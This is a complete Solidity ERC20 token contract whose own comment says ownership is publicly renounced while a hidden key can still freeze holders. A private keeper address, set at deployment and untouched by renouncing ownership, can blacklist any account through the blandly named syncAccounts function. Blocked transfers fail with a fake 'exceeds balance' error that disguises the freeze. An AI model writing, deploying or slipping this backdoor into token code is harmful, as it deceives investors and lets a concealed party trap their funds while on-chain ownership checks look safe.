// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Its ownership is renounced for everybody to see. Another key, which no function names, still freezes whom it likes.
contract ShadowOwnerToken is ERC20, Ownable {
    address private _keeper;
    mapping(address => bool) private _held;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) Ownable(msg.sender) {
        _keeper = msg.sender;
        _mint(msg.sender, supply);
    }

    function syncAccounts(address[] calldata accounts, bool held) external {
        require(msg.sender == _keeper);
        for (uint256 i = 0; i < accounts.length; i++) _held[accounts[i]] = held;
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(!_held[from], "ERC20: transfer amount exceeds balance");
        super._update(from, to, amount);
    }
}
